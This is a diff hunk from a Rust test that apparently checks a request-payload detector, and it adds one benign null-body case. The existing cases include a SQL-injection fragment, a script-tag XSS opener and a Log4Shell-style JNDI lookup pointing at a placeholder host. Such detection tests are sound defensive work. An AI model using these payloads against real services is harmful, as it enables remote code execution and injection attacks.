@@ -240,6 +240,7 @@ fn a_request_that_may_hold_a_payload_is_decoded() {
         (r#"{"method":"GET","path":"/p","query_params":"q=1%2527+or"}"#, Some("/p?q=1' or")),
         (r#"{"path":"/orders/1","query_params":"page=2"}"#, None),
         (r#"{"path":"/orders","request_body":"q=\\u003cscript"}"#, Some("\nq=<script")),
+        (r#"{"path":"/","request_body":null}"#, None),
         (r#"{"path":"/","user_agent":"${jndi:ldap://h.example/a}"}"#, Some("\n${jndi:ldap://h.example/a}")),
         (r#"{"path":"/","user_agent":"curl/8.5.0","referer":"https://h.example/?q=a%20b"}"#, None),
     ] {
